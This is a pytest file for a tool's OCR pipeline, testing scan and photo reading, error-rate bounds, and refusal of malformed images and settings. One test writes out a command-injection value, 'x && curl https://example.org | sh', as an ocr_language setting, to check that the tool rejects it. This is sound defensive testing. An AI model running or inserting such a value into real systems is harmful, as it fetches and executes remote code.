"""Scans and page photos pulled through OCR (Tesseract): measured, pulled end to end, and
refused with a clear message when they cannot be read.

The scans are documents of the labelled set (`tests/labelled/`) printed by WeasyPrint and
read back as a scanner or a phone would (`docmaker.scanned`, `docmaker.photographed`: a tilt,
blur and speckle; for the photo a keystone, light from one side, 200 dpi, JPEG, a quarter
turn). Their character error rate is measured against the same documents' text layer, read
through the same paragraphs and page furniture, and printed (README "Scans and photos").

Tesseract is a program of the machine's (`apt-get install tesseract-ocr`): without it these
tests are skipped, unless PACKET_OCR_TESTS=required (as in CI), when that is a failure.
"""

from __future__ import annotations

import difflib
import io
import os
import re
import shutil
from pathlib import Path

import pytest
import yaml

from conftest import pdf_text, run_packet, snapshot
from docmaker import (
    hand_made_png,
    make_from_recipe,
    photographed,
    rasterised,
    save_scan,
    scanned,
)
from packet.extract import Extracted, extract

LABELLED = Path(__file__).parent / "labelled"
REQUIRED = os.environ.get("PACKET_OCR_TESTS") == "required"
TESSERACT = shutil.which("tesseract")
if TESSERACT is None and REQUIRED:
    pytest.fail("Tesseract is required for the OCR tests (apt-get install tesseract-ocr)")
pytestmark = pytest.mark.skipif(TESSERACT is None, reason="no Tesseract on this machine")

# The bounds: character error rate on the scans, and on the photo.
MAX_CER_SCAN, MAX_CER_PHOTO = 0.02, 0.05


@pytest.fixture(scope="module")
def scans(tmp_path_factory: pytest.TempPathFactory) -> dict[str, tuple[Path, Path]]:
    """(the scan or photo, the typeset PDF it was made from), by name: a scanned PDF of three
    pages, a TIFF of several (uncompressed, tens of megabytes) and a phone photo of a page."""
    folder = tmp_path_factory.mktemp("scans")
    crusades = make_from_recipe(LABELLED / "heldout6-crusades.pdf.yaml", folder)
    chernobyl = make_from_recipe(LABELLED / "tune-chernobyl.pdf.yaml", folder)
    mughal = make_from_recipe(LABELLED / "heldout7-mughal.pdf.yaml", folder)
    pdf_pages = [scanned(page, 2.5) for page in rasterised(crusades)]
    tiff_pages = [scanned(page, -1.5, blur=1.0) for page in rasterised(chernobyl)]
    photo = folder / "mughal-page.jpg"
    buffer = io.BytesIO()
    photographed(rasterised(mughal)[0], turn=90).save(buffer, "JPEG", quality=90)
    photo.write_bytes(buffer.getvalue())
    return {
        "scanned PDF": (save_scan(pdf_pages, folder / "crusades-scan.pdf"), crusades),
        "TIFF": (save_scan(tiff_pages, folder / "chernobyl-scan.tif"), chernobyl),
        "photo": (photo, mughal),
    }


@pytest.fixture(scope="module")
def read(scans: dict[str, tuple[Path, Path]]) -> dict[str, tuple[Extracted, Extracted]]:
    """Each scan read by OCR, with its PDF's text layer read as pull reads it."""
    return {
        name: (
            extract(scan.read_bytes(), "pdf" if scan.suffix == ".pdf" else "image"),
            extract(typeset.read_bytes(), "pdf"),
        )
        for name, (scan, typeset) in scans.items()
    }


def _normal(text: str) -> str:
    """Text compared letter by letter: spaces as one, and a quotation mark or a dash as its
    plain form (OCR reads an en dash as "-", a typographer's apostrophe as either)."""
    marks = str.maketrans(
        {"’": "'", "‘": "'", "“": '"', "”": '"', "\u2010": "-", "–": "-", "—": "-"}
    )
    return " ".join(text.translate(marks).split())


def character_error_rate(truth: str, read: str) -> float:
    """The characters OCR got wrong, left out or added, over the true text's length: the
    edits of difflib's alignment of the two — at least the least number of edits."""
    truth, read = _normal(truth), _normal(read)
    matcher = difflib.SequenceMatcher(None, truth, read, autojunk=False)
    edits = sum(
        max(i2 - i1, j2 - j1) for op, i1, i2, j1, j2 in matcher.get_opcodes() if op != "equal"
    )
    return edits / max(1, len(truth))


def test_ocr_reads_the_scans_and_the_photo_within_the_error_bounds(
    read: dict[str, tuple[Extracted, Extracted]],
) -> None:
    rows = [
        "| scan | pages | characters | character error rate | mean confidence |",
        "|---" * 5 + "|",
    ]
    for name, (scan, typeset) in read.items():
        assert scan.pages is not None and typeset.pages is not None and scan.ocr is not None
        pages = list(zip(scan.pages, typeset.pages, strict=False))
        # A photo of one page cannot tell its running head from text: it is left out of both.
        truth = " ".join(t for _, page in pages for _, t in page.blocks)
        said = " ".join(t for page, _ in pages for _, t in page.blocks if t not in typeset.dropped)
        rate = character_error_rate(truth, said)
        rows.append(
            f"| {name} | {len(pages)} | {len(_normal(truth)):,} | {rate:.2%} | "
            f"{scan.ocr.confidence:.0f}% |"
        )
        assert rate <= (MAX_CER_PHOTO if name == "photo" else MAX_CER_SCAN), name
        assert len(scan.pages) == (1 if name == "photo" else len(typeset.pages))
    print("\n" + "\n".join(rows))


def test_a_scan_keeps_its_headings_paragraphs_and_drops_its_page_furniture(
    read: dict[str, tuple[Extracted, Extracted]],
) -> None:
    scan, typeset = read["scanned PDF"]
    assert "Journal of Medieval History" in scan.dropped
    assert [_normal(t) for r, t in scan.article.blocks if r == "heading"] == [
        _normal(t) for r, t in typeset.article.blocks if r == "heading"
    ]
    paragraphs = [t for r, t in scan.article.blocks if r == "para"]
    assert len(paragraphs) == len([t for r, t in typeset.article.blocks if r == "para"])
    # "at‐" | "tacked" over a page break is one word in the scan as in the text layer.
    assert any("Other bands attacked the Jewish communities" in p for p in paragraphs)


# -- pulled end to end -------------------------------------------------------------------------


def test_scans_and_a_photo_pull_into_packets_that_build(
    fresh: Path, scans: dict[str, tuple[Path, Path]]
) -> None:
    sources = [str(scan) for scan, _ in scans.values()]
    pulled = run_packet("pull", *sources, cwd=fresh, timeout=600)
    assert pulled.returncode == 0, pulled.stderr
    assert pulled.stdout.count("read by Tesseract") == 3
    seeds = fresh / "seeds"
    for scan, _ in scans.values():
        assert (seeds / scan.name).read_bytes() == scan.read_bytes()  # byte for byte
        record = yaml.safe_load((seeds / f"{scan.name}.meta.yaml").read_text())
        assert record["text"] == f"{scan.name}.txt"
        assert record["format"] == ("pdf" if scan.suffix == ".pdf" else "image")
        assert record["ocr"]["engine"].startswith("Tesseract ")
        assert record["ocr"]["language"] == "eng" and record["ocr"]["confidence"] > 80
        stored = (seeds / f"{scan.name}.txt").read_text()
        assert stored.startswith("=== page 1 ===")
    tiff = (seeds / "chernobyl-scan.tif.txt").read_text()
    assert "=== page 2 ===" in tiff and "Reactor No. 4 exploded" in tiff
    assert (seeds / "chernobyl-scan.tif").stat().st_size > 20_000_000  # tens of megabytes
    checked = run_packet("check", cwd=fresh)
    assert checked.returncode == 0, checked.stderr
    lesson_id = re.findall(r"lesson '([^']+)'", pulled.stdout)[0]  # the scanned PDF's
    seed_id = re.findall(r"crusades-scan.pdf: seed '([^']+)'", pulled.stdout)[0]
    modules = "".join(p.read_text() for p in (fresh / "content" / "modules").glob(f"{seed_id}-*"))
    assert f"[@{seed_id}, p. 2]" in modules  # a scan's pages are cited like a PDF's
    built = run_packet("build", lesson_id, "--edition", "student", "--format", "pdf", cwd=fresh)
    assert built.returncode == 0, built.stderr
    text = " ".join(pdf_text(fresh / "output" / f"{lesson_id}-student.pdf"))
    assert "Urban gave his answer on 27 November 1095" in text
    assert "Journal of Medieval History" not in text  # the scan's running head, dropped


@pytest.fixture(scope="module")
def two_photos(tmp_path_factory: pytest.TempPathFactory) -> list[Path]:
    """A document of two pages photographed one page a photo: a JPEG, and a PNG (a phone's
    screenshot of the second page, say)."""
    folder = tmp_path_factory.mktemp("photos")
    typeset = make_from_recipe(LABELLED / "heldout5-norman.pdf.yaml", folder)
    photos = []
    for number, page in enumerate(rasterised(typeset)[:2], start=1):
        buffer = io.BytesIO()
        kind, suffix = ("JPEG", "jpg") if number == 1 else ("PNG", "png")
        photographed(page).save(buffer, kind)
        photos.append(folder / f"IMG_00{number}.{suffix}")
        photos[-1].write_bytes(buffer.getvalue())
    return photos


def test_photos_pulled_together_are_the_pages_of_one_seed(
    fresh: Path, two_photos: list[Path]
) -> None:
    pulled = run_packet("pull", *map(str, two_photos), cwd=fresh, timeout=600)
    assert pulled.returncode == 0, pulled.stderr
    assert pulled.stdout.count(": seed '") == 1
    assert "its later pages: seeds/IMG_002.png (the pictures in the order given)" in pulled.stdout
    seeds = fresh / "seeds"
    for photo in two_photos:
        assert (seeds / photo.name).read_bytes() == photo.read_bytes()
    record = yaml.safe_load((seeds / "IMG_001.jpg.meta.yaml").read_text())
    assert record["file"] == "IMG_001.jpg" and record["parts"] == ["IMG_002.png"]
    stored = (seeds / "IMG_001.jpg.txt").read_text()
    assert stored.startswith("=== page 1 ===") and "=== page 2 ===" in stored
    assert not (seeds / "IMG_002.png.meta.yaml").exists()
    lesson_id = re.findall(r"lesson '([^']+)'", pulled.stdout)[0]
    checked = run_packet("check", cwd=fresh)
    assert checked.returncode == 0, checked.stderr
    built = run_packet("build", lesson_id, "--edition", "student", "--format", "pdf", cwd=fresh)
    assert built.returncode == 0, built.stderr
    # A page taken away is missed by name.
    (seeds / "IMG_002.png").unlink()
    missing = run_packet("check", cwd=fresh)
    assert missing.returncode == 1
    assert "seeds/IMG_002.png, a page of seed" in missing.stderr


def test_a_damaged_page_among_photos_refuses_them_all(
    fresh: Path, two_photos: list[Path], tmp_path: Path
) -> None:
    bad = tmp_path / "IMG_003.jpg"
    bad.write_bytes(b"\xff\xd8\xff\xe0" + b"\x13" * 400)
    before = snapshot(fresh)
    result = run_packet("pull", *map(str, two_photos), str(bad), cwd=fresh, timeout=600)
    assert result.returncode == 1
    assert "this picture is damaged" in result.stderr
    assert "IMG_003.jpg: this picture is damaged" in result.stderr  # the one at fault
    assert snapshot(fresh) == before


def test_a_quotation_relying_on_an_unsure_word_warns_until_checked(
    fresh: Path, scans: dict[str, tuple[Path, Path]]
) -> None:
    scan, _ = scans["scanned PDF"]
    assert run_packet("pull", str(scan), cwd=fresh, timeout=600).returncode == 0
    record_path = fresh / "seeds" / f"{scan.name}.meta.yaml"
    record = yaml.safe_load(record_path.read_text())
    # As if Tesseract had doubted "Clermont" on page 1, where a drafted event quotes it.
    record["ocr"]["unsure"] = [{"page": "1", "word": "Clermont", "confidence": 41}]
    record_path.write_text(yaml.safe_dump(record, allow_unicode=True, sort_keys=False))
    checked = run_packet("check", cwd=fresh)
    said = checked.stdout + checked.stderr
    assert checked.returncode == 0, said
    assert "relies on words OCR was unsure of: “Clermont” (p. 1)" in said
    assert f"compare them with the scan, seeds/{scan.name}" in said
    record["ocr"]["unsure"] = []  # checked against the scan: the teacher takes it off
    record_path.write_text(yaml.safe_dump(record, allow_unicode=True, sort_keys=False))
    said = run_packet("check", cwd=fresh).stderr
    assert "OCR was unsure" not in said
    # A correction to the stored text is what check reads: the drafts quote the old words.
    stored = fresh / "seeds" / f"{scan.name}.txt"
    stored.write_text(stored.read_text().replace("Clermont", "Clairmont"))
    corrected = run_packet("check", cwd=fresh)
    assert corrected.returncode == 1
    assert "is not in seed" in corrected.stderr and f"({scan.name}.txt)" in corrected.stderr


# -- refused, the project untouched ------------------------------------------------------------


def test_without_tesseract_the_message_says_how_to_install_it(
    fresh: Path, scans: dict[str, tuple[Path, Path]], tmp_path: Path
) -> None:
    scan, _ = scans["photo"]
    before = snapshot(fresh)
    empty = tmp_path / "no-programs"
    empty.mkdir()
    result = run_packet("pull", str(scan), cwd=fresh, env={**os.environ, "PATH": str(empty)})
    assert result.returncode == 1
    assert "reading it needs OCR" in result.stderr
    assert "apt-get install tesseract-ocr" in result.stderr and "brew install" in result.stderr
    assert snapshot(fresh) == before


def _white_page() -> bytes:
    from PIL import Image

    out = io.BytesIO()
    Image.new("L", (1240, 1754), 255).save(out, "PNG")
    return out.getvalue()


@pytest.mark.parametrize(
    ("name", "data", "said"),
    [
        ("page.png", b"\x89PNG\r\n\x1a\n" + b"\x00garbage" * 50, "this picture is damaged"),
        ("page.jpg", b"\xff\xd8\xff\xe0" + b"\x13" * 400, "this picture is damaged"),
        ("poster.png", hand_made_png(20_000, 20_000), "400 million pixels; packet reads pages of"),
        ("wide.png", hand_made_png(15_000, 10_000), "15,000 × 10,000 pixels, 150 million pixels"),
        ("blank.png", b"", "the file is empty"),
        ("white.png", _white_page(), "pull it with --figure"),
    ],
)
def test_a_bad_picture_is_refused_and_the_project_left_as_it_was(
    fresh: Path, tmp_path: Path, name: str, data: bytes, said: str
) -> None:
    source = tmp_path / name
    source.write_bytes(data)
    before = snapshot(fresh)
    result = run_packet("pull", str(source), cwd=fresh)
    assert result.returncode == 1 and said in result.stderr, result.stderr
    assert name in result.stderr
    assert snapshot(fresh) == before


def test_a_picture_over_its_kinds_limit_is_refused_unread(fresh: Path, tmp_path: Path) -> None:
    from packet.pull import LIMITS

    source = tmp_path / "huge.tif"
    with source.open("wb") as handle:
        handle.write(b"II*\x00")
        handle.truncate(LIMITS["image"] + 1)  # sparse: nothing to read, only its size
    before = snapshot(fresh)
    result = run_packet("pull", str(source), cwd=fresh)
    assert result.returncode == 1 and "huge.tif" in result.stderr
    assert f"{LIMITS['image'] // 1_000_000}" in result.stderr and "MB" in result.stderr
    assert snapshot(fresh) == before


@pytest.mark.parametrize(
    ("setting", "said"),
    [
        ('ocr_language = "zzz"', "Tesseract cannot read zzz: its language data is not installed"),
        ('language = "xx"', "packet does not know which language to read it in"),
    ],
)
def test_the_language_a_scan_is_read_in_comes_from_packet_toml(
    fresh: Path, scans: dict[str, tuple[Path, Path]], setting: str, said: str
) -> None:
    toml = fresh / "packet.toml"
    text = re.sub(r'(?m)^language = "en"\n', "", toml.read_text())
    toml.write_text(re.sub(r"(\[packet\]\n)", rf"\1{setting}\n", text))
    before = snapshot(fresh)
    scan, _ = scans["photo"]
    result = run_packet("pull", str(scan), cwd=fresh)
    assert result.returncode == 1 and said in result.stderr, result.stderr
    assert "ocr_language" in result.stderr
    assert snapshot(fresh) == before


def _on_a_terminal(args: list[str], cwd: Path, answer: bytes, timeout: float = 120) -> str:
    """`packet ARGS` run on a terminal (a pseudo-terminal), `answer` typed at its question;
    all it wrote."""
    import pty
    import select
    import subprocess
    import sys
    import time

    from conftest import packet_env

    main, side = pty.openpty()
    process = subprocess.Popen(
        [sys.executable, "-m", "packet", *args], cwd=cwd, stdin=side, stdout=side, stderr=side,
        env=packet_env(),
    )  # fmt: skip
    os.close(side)
    said, asked, end = b"", False, time.monotonic() + timeout
    try:
        while time.monotonic() < end:
            ready, _, _ = select.select([main], [], [], 0.5)
            if ready:
                try:
                    chunk = os.read(main, 4096)
                except OSError:  # the command ended: the terminal is closed
                    break
                if not chunk:
                    break
                said += chunk
                if not asked and b"[y/N]" in said:
                    os.write(main, answer)
                    asked = True
            elif process.poll() is not None:
                break
        process.wait(timeout=10)
    finally:
        os.close(main)
        if process.poll() is None:
            process.kill()
    return said.decode("utf-8", "replace")


@pytest.mark.parametrize("answer", [b"y\n", b"n\n"])
def test_a_photo_without_words_is_offered_as_a_figure_on_a_terminal(
    fresh: Path, tmp_path: Path, answer: bytes
) -> None:
    from PIL import Image, ImageDraw

    picture = Image.new("RGB", (1200, 900), (200, 215, 235))
    draw = ImageDraw.Draw(picture)
    draw.ellipse((350, 200, 850, 700), fill=(40, 60, 30))
    draw.rectangle((0, 700, 1200, 900), fill=(90, 70, 40))
    landscape = tmp_path / "landscape.jpg"
    picture.save(landscape, "JPEG", quality=90)
    before = snapshot(fresh)
    said = _on_a_terminal(["pull", str(landscape)], fresh, answer)
    assert "OCR found no text in landscape.jpg" in said and "Pull it as a figure" in said
    if answer.startswith(b"y"):
        assert "seeds/landscape.jpg: figure 'landscape'" in said
        record = yaml.safe_load((fresh / "seeds" / "landscape.jpg.meta.yaml").read_text())
        assert record["format"] == "figure" and record["draft"] is True
    else:
        assert "OCR found no text in this scan" in said and "pull it with --figure" in said
        assert snapshot(fresh) == before
    # Not on a terminal, nothing is asked: the refusal says what to do.
    if answer.startswith(b"n"):
        result = run_packet("pull", str(landscape), cwd=fresh)
        assert result.returncode == 1 and "[y/N]" not in result.stdout + result.stderr
        assert "pull it with --figure" in result.stderr


# -- a shared unit's scans: the hostile catalogue ----------------------------------------------


def _tiff_of_many(path: Path, pages: int) -> Path:
    from PIL import Image

    first = Image.new("L", (40, 40), 255)
    first.save(path, "TIFF", save_all=True, append_images=[first] * (pages - 1))
    return path


def _lab_tiff(path: Path) -> Path:
    from PIL import Image

    Image.new("LAB", (400, 300)).save(path, "TIFF")
    return path


@pytest.mark.parametrize(
    ("name", "make", "said"),
    [
        ("book.tif", lambda p: _tiff_of_many(p, 301), "holds 301 pages; packet reads at most 300"),
        ("odd.tif", _lab_tiff, "this picture is damaged or not a picture packet reads"),
        ("notes.png", lambda p: p.write_bytes(b"%!PS-Adobe-3.0\nshowpage\n"), "not a PNG"),
    ],
)
def test_a_scan_packet_cannot_read_is_refused_with_its_name(
    fresh: Path, tmp_path: Path, name: str, make: object, said: str
) -> None:
    source = tmp_path / name
    make(source)  # type: ignore[operator]
    before = snapshot(fresh)
    result = run_packet("pull", str(source), cwd=fresh)
    assert result.returncode == 1 and said in result.stderr, result.stderr
    assert name in result.stderr and "internal error" not in result.stderr
    assert snapshot(fresh) == before


def test_among_photos_the_one_that_cannot_be_read_is_named(
    fresh: Path, two_photos: list[Path], tmp_path: Path
) -> None:
    bad = tmp_path / "IMG_000.png"
    bad.write_bytes(b"\x89PNG\r\n\x1a\n" + b"\x00" * 64)
    result = run_packet("pull", str(bad), *map(str, two_photos), cwd=fresh)
    assert result.returncode == 1
    assert re.search(r"IMG_000\.png: this picture is damaged", result.stderr), result.stderr
    assert "IMG_001.jpg:" not in result.stderr


def test_text_hidden_in_a_transparent_picture_is_not_read(fresh: Path, tmp_path: Path) -> None:
    from PIL import Image, ImageDraw, ImageFont

    picture = Image.new("RGBA", (1600, 400), (0, 0, 0, 0))
    ImageDraw.Draw(picture).text(
        (60, 120), "Hidden words nobody sees", fill=(0, 0, 0, 0),
        font=ImageFont.load_default(size=90),
    )  # fmt: skip
    hidden = tmp_path / "blank.png"
    picture.save(hidden)
    result = run_packet("pull", str(hidden), cwd=fresh)
    assert result.returncode == 1 and "OCR found no text" in result.stderr


@pytest.mark.parametrize(
    ("value", "said"),
    [
        ('"x && curl https://example.org | sh"', "ocr_language"),
        ('"osd"', "'osd' is not a language"),
    ],
)
def test_an_ocr_language_that_is_no_language_is_refused(
    fresh: Path, scans: dict[str, tuple[Path, Path]], value: str, said: str
) -> None:
    toml = fresh / "packet.toml"
    toml.write_text(re.sub(r"(\[packet\]\n)", rf"\1ocr_language = {value}\n", toml.read_text()))
    scan, _ = scans["photo"]
    result = run_packet("pull", str(scan), cwd=fresh)
    assert result.returncode == 1 and said in result.stderr, result.stderr
    assert "curl" not in result.stderr.split("—")[-1]  # never suggested as a command


def test_a_record_listing_a_page_twice_or_its_own_record_is_an_error(
    fresh: Path, two_photos: list[Path]
) -> None:
    assert run_packet("pull", *map(str, two_photos), cwd=fresh, timeout=600).returncode == 0
    record_path = fresh / "seeds" / "IMG_001.jpg.meta.yaml"
    record = yaml.safe_load(record_path.read_text())
    for parts in (["IMG_002.png", "IMG_002.png"], ["IMG_001.jpg"], ["IMG_001.jpg.meta.yaml"]):
        record["parts"] = parts
        record_path.write_text(yaml.safe_dump(record, allow_unicode=True, sort_keys=False))
        checked = run_packet("check", cwd=fresh)
        assert checked.returncode == 1 and "cannot be a page of seed" in checked.stderr, parts
